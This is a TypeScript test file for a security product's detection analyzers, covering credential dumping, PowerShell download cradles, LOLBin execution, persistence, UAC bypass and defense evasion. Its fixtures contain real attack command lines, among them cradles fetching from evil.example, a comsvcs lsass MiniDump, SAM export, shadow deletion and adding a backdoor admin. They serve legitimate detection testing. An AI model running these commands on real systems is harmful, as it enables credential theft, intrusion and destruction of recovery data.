/**
 * The decision logic of the built-in analyzers on hand-made matches (the Cypher side is covered by the
 * integration tests on real events). Each technique: one case that must fire, one look-alike that must not.
 */
import { beforeAll, describe, expect, it } from 'vitest';
import { createLogger } from '../../../lib/log';
import { loadAnalyzers } from '../host';
import type { Analyzer, AnalyzerContext, HitDraft } from '../sdk/define';
import { StaticRarity } from '../sdk/rarity';

let byId: Map<string, Analyzer>;

beforeAll(async () => {
  const { analyzers } = await loadAnalyzers(undefined);
  byId = new Map(analyzers.map((a) => [a.id, a]));
});

const ctx = (rarity = new StaticRarity()): AnalyzerContext => ({
  rarity,
  log: createLogger({}, 'error'),
  expand: async () => [],
});

async function run(id: string, row: Record<string, unknown>, rarity?: StaticRarity): Promise<HitDraft[]> {
  const a = byId.get(id);
  if (!a) throw new Error(`no analyzer ${id}`);
  const r = await a.hits(row, ctx(rarity));
  if (!r) return [];
  return Array.isArray(r) ? [...r] : [r as HitDraft];
}

let n = 0;
const proc = (image: string, extra: Record<string, unknown> = {}) => ({
  key: `Process:${++n}`,
  image,
  pid: n,
  host: 'WS1',
  ...extra,
});
const S32 = 'C:\\Windows\\System32';
const enc = (s: string) => Buffer.from(s, 'utf16le').toString('base64');

describe('credential access', () => {
  const lsass = proc(`${S32}\\lsass.exe`);
  it('lsass-dump-file: a dumper connected out to another host claims exfiltration over that channel', async () => {
    const dump = { key: 'File:1', path: 'C:\\Users\\u\\AppData\\Local\\Temp\\lsass.dmp' };
    const src = proc('C:\\Users\\u\\Downloads\\payload.exe');
    const access = { granted_access: ['0x1fffff'] };
    const [implant] = await run('lsass-dump-file', { src, lsass, dump, access, rdp: [], channel: [{ key: 'NetworkEndpoint:1', ip: '203.0.113.7' }] });
    expect(implant?.techniques).toEqual(['T1041']);
    const [local] = await run('lsass-dump-file', { src, lsass, dump, access, rdp: [], channel: [] });
    expect(local?.techniques).toEqual([]);
  });

  it('lsass-access: read access from memory-resident code fires, query-only access does not', async () => {
    const [hit] = await run('lsass-access', {
      rdp: [],
      src: proc(`${S32}\\WindowsPowerShell\\v1.0\\powershell.exe`),
      lsass,
      access: {
        granted_access: ['0x1010'],
        call_trace: 'C:\\Windows\\SYSTEM32\\ntdll.dll+9c584|UNKNOWN(000002EE319439BF)',
      },
    });
    expect(hit?.score).toBe(85);
    expect(
      await run('lsass-access', {
        rdp: [],
        src: proc(`${S32}\\svchost.exe`),
        lsass,
        access: { granted_access: ['0x1000', '0x3000'], call_trace: 'x' },
      }),
    ).toEqual([]);
  });

  it('lsass-access: minidump through a System32 binary fires; a security agent reading without evidence does not', async () => {
    const [hit] = await run('lsass-access', {
      rdp: [],
      src: proc(`${S32}\\rundll32.exe`),
      lsass,
      access: {
        granted_access: ['0x1fffff'],
        call_trace: `${S32}\\dbgcore.DLL+6e8c|${S32}\\comsvcs.dll+4d7a`,
      },
    });
    expect(hit?.score).toBe(90);
    const defender = proc(
      'C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.2008.9-0\\MsMpEng.exe',
    );
    expect(
      await run('lsass-access', {
        rdp: [],
        src: defender,
        lsass,
        access: {
          granted_access: ['0x1fffff'],
          call_trace: `${S32}\\ntdll.dll+1|C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\mpengine.dll+2`,
        },
      }),
    ).toEqual([]);
    // A fake "MsMpEng.exe" from a user folder is no agent.
    const fake = proc('C:\\Users\\bob\\AppData\\Local\\Temp\\MsMpEng.exe');
    expect(
      await run('lsass-access', {
        rdp: [],
        src: fake,
        lsass,
        access: { granted_access: ['0x1410'], call_trace: 'x' },
      }),
    ).toHaveLength(1);
  });

  it('credential-dump-commandline: comsvcs MiniDump and hive export fire, a benign reg export does not', async () => {
    const [c] = await run('credential-dump-commandline', {
      proc: proc(`${S32}\\rundll32.exe`, {
        command_line: `rundll32.exe ${S32}\\comsvcs.dll, MiniDump 624 C:\\temp\\x.dmp full`,
      }),
    });
    expect(c?.score).toBe(90);
    const [r] = await run('credential-dump-commandline', {
      proc: proc(`${S32}\\reg.exe`, { command_line: 'reg.exe save HKLM\\SAM C:\\t\\sam' }),
    });
    expect(r?.techniques).toContain('T1003.002');
    expect(
      await run('credential-dump-commandline', {
        proc: proc(`${S32}\\reg.exe`, {
          command_line: 'reg export HKLM\\SOFTWARE\\Vendor C:\\backup\\v.reg /y',
        }),
      }),
    ).toEqual([]);
  });
});

describe('execution', () => {
  it('encoded-powershell: decodes and scores a download cradle', async () => {
    const cmd = `powershell.exe -NoP -NonI -W Hidden -enc ${enc("$w=New-Object Net.WebClient;IEX $w.DownloadString('http://10.0.0.5/a')")}`;
    const [hit] = await run('encoded-powershell', {
      proc: proc(`${S32}\\WindowsPowerShell\\v1.0\\powershell.exe`, { command_line: cmd }),
    });
    expect(hit?.score).toBeGreaterThanOrEqual(85);
    expect(hit?.summary).toContain('decoded');
  });

  it('powershell-download-cradle: download-and-run fires, a plain web request to nothing does not', async () => {
    const [hit] = await run('powershell-download-cradle', {
      proc: proc('powershell.exe', {
        command_line: 'powershell -c "IEX (iwr \'https://evil.example/x.ps1\')"',
      }),
    });
    expect(hit?.score).toBe(80);
    expect(
      await run('powershell-download-cradle', {
        proc: proc('powershell.exe', { command_line: 'powershell -c Get-Help Invoke-WebRequest' }),
      }),
    ).toEqual([]);
  });

  it('lolbin-proxy-execution: remote or inline content fires, Windows maintenance does not', async () => {
    for (const [image, cmd] of [
      ['bitsadmin.exe', 'bitsadmin.exe /transfer job /download /priority high http://x/a.exe C:\\t\\a.exe'],
      ['mshta.exe', 'mshta vbscript:Execute("CreateObject(""Wscript.Shell"").Run ""calc"":close")'],
      ['regsvr32.exe', 'regsvr32 /s /n /u /i:http://x/file.sct scrobj.dll'],
      ['certutil.exe', 'certutil -urlcache -split -f http://x/a.exe a.exe'],
      ['rundll32.exe', 'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";alert(1)'],
    ]) {
      expect(
        await run('lolbin-proxy-execution', { proc: proc(`${S32}\\${image}`, { command_line: cmd }) }),
        cmd,
      ).toHaveLength(1);
    }
    for (const cmd of [
      'rundll32.exe C:\\Windows\\system32\\Windows.StateRepositoryClient.dll,StateRepositoryDoMaintenanceTasks',
      'rundll32.exe Startupscan.dll,SusRunTask',
    ]) {
      expect(
        await run('lolbin-proxy-execution', { proc: proc(`${S32}\\rundll32.exe`, { command_line: cmd }) }),
        cmd,
      ).toEqual([]);
    }
  });

  it('discovery-tools: recon from an agent fires, from an interactive console does not', async () => {
    const ps = proc('powershell.exe');
    const [hit] = await run('discovery-tools', {
      tool: proc(`${S32}\\whoami.exe`, { command_line: 'whoami /all' }),
      parent: ps,
      grand: [proc(`${S32}\\wmiprvse.exe`)],
      siblings: [],
    });
    expect(hit?.score).toBeGreaterThanOrEqual(45);
    const console = await run('discovery-tools', {
      tool: proc(`${S32}\\whoami.exe`, { command_line: 'whoami' }),
      parent: proc(`${S32}\\cmd.exe`),
      grand: [proc('C:\\Windows\\explorer.exe')],
      siblings: [],
    });
    expect(console).toEqual([]);
    expect(
      await run('discovery-tools', {
        tool: proc(`${S32}\\net.exe`, { command_line: 'net trace stop' }),
        parent: ps,
        grand: [],
        siblings: [],
      }),
    ).toEqual([]);
  });

  it('discovery-tools: a burst of tools marks the parent too', async () => {
    const parent = proc('C:\\Users\\bob\\Downloads\\payload.exe');
    const at = (image: string, t: number) => proc(`${S32}\\${image}`, { create_time: t });
    const tool = at('whoami.exe', 1000);
    const [hit] = await run('discovery-tools', {
      tool,
      parent,
      grand: [],
      siblings: [tool, at('systeminfo.exe', 2000), at('ipconfig.exe', 3000)],
    });
    expect(hit?.risky).toContain(parent);
  });

  it('office-child: a shell under Word fires high, a routine helper seen everywhere stays low', async () => {
    const word = proc('C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE');
    const [shell] = await run('office-child', {
      child: proc(`${S32}\\cmd.exe`, { command_line: 'cmd /c calc' }),
      office: word,
    });
    expect(shell?.score).toBe(80);
    const rarity = new StaticRarity({ 'winword.exe|helper.exe': { count: 400, hosts: 50 } });
    const [helper] = await run(
      'office-child',
      { child: proc('C:\\Program Files\\X\\helper.exe'), office: word },
      rarity,
    );
    expect(helper?.score).toBe(20);
  });

  it('rare-cmd-parent: uses environment rarity', async () => {
    const shell = proc(`${S32}\\cmd.exe`, { command_line: 'cmd.exe' });
    const parent = proc('C:\\Users\\bob\\Downloads\\x.exe');
    expect(
      await run(
        'rare-cmd-parent',
        { shell, parent },
        new StaticRarity({ 'x.exe|cmd.exe': { count: 1, hosts: 1 } }),
      ),
    ).toHaveLength(1);
    expect(
      await run(
        'rare-cmd-parent',
        { shell, parent },
        new StaticRarity({ 'x.exe|cmd.exe': { count: 90, hosts: 30 } }),
      ),
    ).toEqual([]);
  });

  it('suspicious-svchost: a svchost started by anything but services.exe fires', async () => {
    const svc = proc(`${S32}\\svchost.exe`, { command_line: 'svchost.exe -k netsvcs -p' });
    expect(await run('suspicious-svchost', { svc, parent: proc('C:\\Windows\\explorer.exe') })).toHaveLength(
      1,
    );
    expect(await run('suspicious-svchost', { svc, parent: proc(`${S32}\\services.exe`) })).toEqual([]);
  });
});

describe('lateral movement, privilege escalation, persistence', () => {
  it('remote-execution: services.exe starting cmd fires; starting a service from System32 does not', async () => {
    const services = proc(`${S32}\\services.exe`);
    const [hit] = await run('remote-execution', {
      child: proc(`${S32}\\cmd.exe`, {
        command_line:
          'cmd.exe /Q /c echo whoami ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > C:\\Windows\\TEMP\\execute.bat',
        create_time: 5,
      }),
      parent: services,
    });
    expect(hit?.techniques).toContain('T1569.002');
    const [svcBin] = await run('remote-execution', {
      child: proc('C:\\Windows\\PSEXESVC.exe'),
      parent: services,
    });
    expect(svcBin?.score).toBe(55);
    expect(await run('remote-execution', { child: proc(`${S32}\\spoolsv.exe`), parent: services })).toEqual(
      [],
    );
  });

  it('getsystem-named-pipe: echo into a pipe fires', async () => {
    const [hit] = await run('getsystem-named-pipe', {
      proc: proc(`${S32}\\cmd.exe`, { command_line: 'cmd.exe /c echo abcdef > \\\\.\\pipe\\abcdef' }),
      parents: [],
    });
    expect(hit?.summary).toContain('named pipe');
  });

  it('uac-bypass-registry: ms-settings command and windir override fire, other environment values do not', async () => {
    const writer = proc('powershell.exe');
    const key = (path: string) => ({ key: `RegistryKey:WS1:${path.toLowerCase()}`, path });
    expect(
      await run('uac-bypass-registry', {
        writer,
        key: key('HKU\\S-1-5-21-1_Classes\\ms-settings\\Shell\\Open\\command'),
        set: { details: ['(Default)=powershell -enc x', 'DelegateExecute=(Empty)'] },
      }),
    ).toHaveLength(1);
    expect(
      await run('uac-bypass-registry', {
        writer,
        key: key('HKCU\\Environment'),
        set: { details: ['windir=cmd /c start x &&'] },
      }),
    ).toHaveLength(1);
    expect(
      await run('uac-bypass-registry', {
        writer,
        key: key('HKCU\\Environment'),
        set: { details: ['TEMP=C:\\t'] },
      }),
    ).toEqual([]);
  });

  it('remote-thread-injection: console control from csrss is ignored, shellcode threads fire', async () => {
    expect(
      await run('remote-thread-injection', {
        src: proc(`${S32}\\csrss.exe`),
        target: proc('powershell.exe'),
        thread: { start_module: `${S32}\\KERNELBASE.dll`, start_function: 'CtrlRoutine' },
      }),
    ).toEqual([]);
    const [hit] = await run('remote-thread-injection', {
      src: proc('powershell.exe'),
      target: proc(`${S32}\\notepad.exe`),
      thread: { start_module: '-', start_function: '-' },
    });
    expect(hit?.score).toBe(85);
    expect(hit?.risky).toHaveLength(2);
  });

  it('service-install-registry: shell ImagePath fires high, an installed program does not', async () => {
    const writer = proc(`${S32}\\services.exe`);
    const svc = { key: 'RegistryKey:WS1:x', path: 'HKLM\\System\\CurrentControlSet\\Services\\Updater' };
    const [shell] = await run('service-install-registry', {
      writer,
      svc,
      set: { details: ['ImagePath=%%COMSPEC%% /C start /b powershell -noP -enc AAAA'] },
    });
    expect(shell?.score).toBe(85);
    const [psexec] = await run('service-install-registry', {
      writer,
      svc,
      set: { details: ['ImagePath=%%SystemRoot%%\\PSEXESVC.exe'] },
    });
    expect(psexec?.score).toBe(65);
    expect(
      await run('service-install-registry', {
        writer,
        svc,
        set: { details: ['ImagePath="C:\\Program Files\\Vendor\\agent.exe" -service'] },
      }),
    ).toEqual([]);
  });

  it('scheduled-task: a remote SYSTEM task running a shell scores high', async () => {
    const [hit] = await run('scheduled-task', {
      proc: proc(`${S32}\\schtasks.exe`, {
        command_line:
          'schtasks /create /F /tn \\Microsoft\\Windows\\X /tr "cmd.exe /c C:\\t\\a.exe" /sc ONSTART /ru system /S WS2',
      }),
      parents: [],
    });
    expect(hit?.score).toBeGreaterThanOrEqual(80);
    expect(hit?.techniques).toContain('T1021');
  });

  it('scheduled-task: the agent behind a cmd /c wrapper is flagged with it; a console opened from Explorer is not', async () => {
    const line =
      '"C:\\Windows\\system32\\cmd.exe" /C schtasks /create /F /tn \\Microsoft\\Windows\\X /tr "cmd.exe /C notepad.exe" /sc ONSTART /ru system /S WS2';
    const wrapper = proc(`${S32}\\cmd.exe`, { command_line: line });
    const agent = proc(`${S32}\\WindowsPowerShell\\v1.0\\powershell.exe`);
    const [hit] = await run('scheduled-task', { proc: wrapper, parents: [agent] });
    expect(hit?.risky).toEqual([wrapper, agent]);
    const [byUser] = await run('scheduled-task', { proc: wrapper, parents: [proc('C:\\Windows\\explorer.exe')] });
    expect(byUser?.risky).toEqual([wrapper]);
  });

  it('registry-persistence: a Run value launching PowerShell fires', async () => {
    const [hit] = await run('registry-persistence', {
      writer: proc('C:\\Users\\bob\\x.exe'),
      key: {
        key: 'RegistryKey:k',
        path: 'HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run',
      },
      set: { details: ['Updater=powershell -w hidden -enc AAA'] },
    });
    expect(hit?.score).toBe(75);
    expect(
      await run('registry-persistence', {
        writer: proc('x.exe'),
        key: {
          key: 'RegistryKey:k',
          path: 'HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon',
        },
        set: { details: ['Shell=explorer.exe', 'AutoRestartShell=DWORD (0x00000001)'] },
      }),
    ).toEqual([]);
  });

  it('remote-access-commandline: enabling RDP fires, lab tracing does not', async () => {
    expect(
      await run('remote-access-commandline', {
        proc: proc('reg.exe', {
          command_line:
            'reg add "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f',
        }),
      }),
    ).toHaveLength(1);
    expect(
      await run('remote-access-commandline', {
        proc: proc('netsh.exe', { command_line: 'netsh trace start capture=yes tracefile=c:\\t\\x.etl' }),
      }),
    ).toEqual([]);
  });

  it('defense-evasion-commandline: log clearing and shadow deletion fire', async () => {
    expect(
      await run('defense-evasion-commandline', {
        proc: proc('wevtutil.exe', { command_line: 'wevtutil cl Security' }),
      }),
    ).toHaveLength(1);
    expect(
      await run('defense-evasion-commandline', {
        proc: proc('vssadmin.exe', { command_line: 'vssadmin.exe Delete Shadows /All /Quiet' }),
      }),
    ).toHaveLength(1);
    expect(
      await run('defense-evasion-commandline', {
        proc: proc('sc.exe', { command_line: 'sc query windefend' }),
      }),
    ).toEqual([]);
  });
});

describe('servers, accounts, security controls, staging', () => {
  it('server-app-shell: IIS starting cmd fires, IIS compiling pages does not', async () => {
    const w3wp = proc('C:\\Windows\\System32\\inetsrv\\w3wp.exe');
    const [hit] = await run('server-app-shell', {
      child: proc(`${S32}\\cmd.exe`, { command_line: 'cmd /c whoami' }),
      server: w3wp,
    });
    expect(hit?.score).toBe(85);
    expect(
      await run('server-app-shell', {
        child: proc('C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\aspnet_compiler.exe'),
        server: w3wp,
      }),
    ).toEqual([]);
  });

  it('account-manipulation-commandline: admin group membership fires, listing users does not', async () => {
    const [hit] = await run('account-manipulation-commandline', {
      proc: proc(`${S32}\\net.exe`, { command_line: 'net localgroup administrators backdoor /add' }),
    });
    expect(hit?.techniques).toContain('T1098');
    expect(
      await run('account-manipulation-commandline', {
        proc: proc(`${S32}\\net.exe`, { command_line: 'net user /domain' }),
      }),
    ).toEqual([]);
  });

  it('security-registry-tamper: WDigest downgrade fires, WDigest left off does not', async () => {
    const key = {
      key: 'RegistryKey:k',
      path: 'HKLM\\System\\CurrentControlSet\\Control\\SecurityProviders\\WDigest',
    };
    const [hit] = await run('security-registry-tamper', {
      writer: proc('reg.exe'),
      key,
      set: { details: ['UseLogonCredential=DWORD (0x00000001)'] },
    });
    expect(hit?.score).toBe(85);
    expect(
      await run('security-registry-tamper', {
        writer: proc('reg.exe'),
        key,
        set: { details: ['UseLogonCredential=DWORD (0x00000000)'] },
      }),
    ).toEqual([]);
  });

  it('archive-staging: a password-protected archive of a dump fires, extracting an archive does not', async () => {
    const [hit] = await run('archive-staging', {
      proc: proc('C:\\Users\\Public\\7za.exe', {
        command_line: '7za.exe a -pS3cret out.7z C:\\Windows\\Temp\\lsass.dmp',
      }),
    });
    expect(hit?.score).toBe(75);
    expect(
      await run('archive-staging', {
        proc: proc('7z.exe', { command_line: '7z.exe x -pS3cret in.7z -oC:\\Users\\bob\\Documents' }),
      }),
    ).toEqual([]);
  });
});

describe('process tampering and credential-store implants', () => {
  const explorer = proc('C:\\Windows\\explorer.exe');
  const ps = proc(`${S32}\\WindowsPowerShell\\v1.0\\powershell.exe`);
  it('process-tampering-access: a handle with create-process rights, then a child of the target, is parent PID spoofing', async () => {
    const cmd = proc(`${S32}\\cmd.exe`);
    const [hit] = await run('process-tampering-access', {
      src: ps,
      target: explorer,
      access: { granted_access: ['0x1f3fff'], call_trace: `${S32}\\ntdll.dll+9fc14|${S32}\\KERNELBASE.dll+20d5e` },
      spawned: [cmd],
    });
    expect(hit?.risky).toEqual([ps, cmd]);
    expect(hit?.techniques).toEqual(['T1134.004']);
    // The same rights from a system binary with no child appearing: an ordinary open.
    expect(
      await run('process-tampering-access', {
        src: ps,
        target: explorer,
        access: { granted_access: ['0x1f3fff'], call_trace: `${S32}\\ntdll.dll+9fc14` },
        spawned: [],
      }),
    ).toEqual([]);
  });

  it('process-tampering-access: unbacked code or a user-folder program writing into a process fires; query rights do not', async () => {
    const notepad = proc(`${S32}\\notepad.exe`);
    const dropped = proc('C:\\Users\\Public\\tool.exe');
    const [mem] = await run('process-tampering-access', {
      src: dropped,
      target: notepad,
      access: { granted_access: ['0x1fffff'], call_trace: 'UNKNOWN(000001F3C35A0014)' },
      spawned: [],
    });
    expect(mem?.score).toBe(75);
    const [suspend] = await run('process-tampering-access', {
      src: dropped,
      target: notepad,
      access: { granted_access: ['0x800'], call_trace: 'C:\\Users\\Public\\tool.exe+1234' },
      spawned: [],
    });
    expect(suspend?.techniques).toEqual(['T1562.001']);
    expect(
      await run('process-tampering-access', {
        src: dropped,
        target: notepad,
        access: { granted_access: ['0x1410'], call_trace: 'UNKNOWN(000001F3C35A0014)' },
        spawned: [],
      }),
    ).toEqual([]);
  });

  it('lsass-file-write: lsass writing a log is flagged with the file as context', async () => {
    const lsass = proc(`${S32}\\lsass.exe`);
    const file = { key: 'File:WS1|c:\\windows\\system32\\mimilsa.log', path: 'C:\\Windows\\System32\\mimilsa.log' };
    const [hit] = await run('lsass-file-write', { lsass, file });
    expect(hit?.risky).toEqual([lsass]);
    expect(hit?.context).toEqual([file]);
  });
});

describe('unique Windows built-in execution', () => {
  it('a dropped program starting a shell never seen under it fires on both; installed software and common pairs do not', async () => {
    const payload = proc('C:\\Users\\u\\Downloads\\payload.exe');
    const cmd = proc(`${S32}\\cmd.exe`, { command_line: 'C:\\Windows\\system32\\cmd.exe' });
    const [hit] = await run('unique-builtin-execution', { child: cmd, parent: payload }, new StaticRarity({ 'payload.exe|cmd.exe': { count: 1, hosts: 1 } }));
    expect(hit?.risky).toEqual([cmd, payload]);
    expect(hit?.score).toBe(55);
    expect(hit?.techniques).toEqual(['T1059.003']);
    const vendor = proc('C:\\Program Files\\Vendor\\agent.exe');
    expect(await run('unique-builtin-execution', { child: cmd, parent: vendor })).toEqual([]);
    const updater = proc('C:\\Users\\u\\AppData\\Local\\App\\Update.exe');
    expect(await run('unique-builtin-execution', { child: cmd, parent: updater })).toEqual([]);
    const common = new StaticRarity({ 'payload.exe|cmd.exe': { count: 12, hosts: 4 } });
    expect(await run('unique-builtin-execution', { child: cmd, parent: payload }, common)).toEqual([]);
  });
});

describe('accounts, shares and traces in the registry', () => {
  const lsass = proc(`${S32}\\lsass.exe`);
  const key = (path: string) => ({ key: `RegistryKey:${path.toLowerCase()}`, path });
  it('account-registry-change: a $-suffixed account is hidden; the SAM key is the finding', async () => {
    const k = key('HKLM\\SAM\\SAM\\Domains\\Account\\Users\\Names\\hideme0007$');
    const [hit] = await run('account-registry-change', { writer: lsass, key: k, set: { details: ['(Default)=Binary Data'] } });
    expect(hit?.risky).toEqual([k]);
    expect(hit?.techniques).toEqual(['T1136.001', 'T1564.002']);
  });

  it('account-registry-change: an account record rewritten outside lsass is RID hijacking; lsass doing it is not', async () => {
    const k = key('HKLM\\SAM\\SAM\\Domains\\Account\\Users\\000001F5');
    const writer = proc('C:\\Windows\\Microsoft.NET\\Framework\\v4.0.30319\\MSBuild.exe');
    const [hit] = await run('account-registry-change', { writer, key: k, set: { details: ['F=Binary Data'] } });
    expect(hit?.score).toBe(85);
    expect(await run('account-registry-change', { writer: lsass, key: k, set: { details: ['F=Binary Data'] } })).toEqual([]);
  });

  it('account-registry-change: the Update Orchestrator only counts when pointed at a shell', async () => {
    const k = key('HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\WindowsUpdate\\Orchestrator\\UScheduler\\51999');
    const svc = proc(`${S32}\\svchost.exe`);
    const [hit] = await run('account-registry-change', { writer: svc, key: k, set: { details: ['cmdLine=c:\\windows\\system32\\cmd.exe'] } });
    expect(hit?.techniques).toEqual(['T1068']);
    expect(
      await run('account-registry-change', { writer: svc, key: k, set: { details: ['cmdLine=C:\\Windows\\System32\\usoclient.exe StartScan'] } }),
    ).toEqual([]);
  });

  it('security-registry-tamper: macros given the VBA object model', async () => {
    const [hit] = await run('security-registry-tamper', {
      writer: proc(`${S32}\\wbem\\wmiprvse.exe`),
      key: key('HKU\\S-1-5-21-1\\Software\\Microsoft\\Office\\16.0\\Excel\\Security'),
      set: { details: ['AccessVBOM=DWORD (0x00000001)'] },
    });
    expect(hit?.score).toBe(60);
  });
});
